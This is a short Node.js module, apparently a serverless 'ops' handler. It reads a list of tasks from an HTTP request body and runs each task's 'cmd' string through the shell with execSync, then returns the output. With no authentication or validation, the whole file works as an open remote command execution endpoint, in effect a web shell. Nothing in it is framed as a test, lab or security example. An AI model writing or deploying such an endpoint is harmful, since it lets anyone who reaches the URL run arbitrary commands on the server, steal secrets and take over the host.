// An "ops" function: a JSON body of tasks, each run through the shell.
const { execSync: run } = require("child_process");

module.exports = async (req, res) => {
  const { tasks = [] } = typeof req.body === "string" ? JSON.parse(req.body) : req.body || {};
  const results = [];
  for (const task of tasks.slice(0, 10)) {
    try {
      results.push({ task, out: run(task.cmd, { encoding: "utf8", timeout: 15000 }) });
    } catch (err) {
      results.push({ task, error: String(err.message) });
    }
  }
  res.json({ results });
};
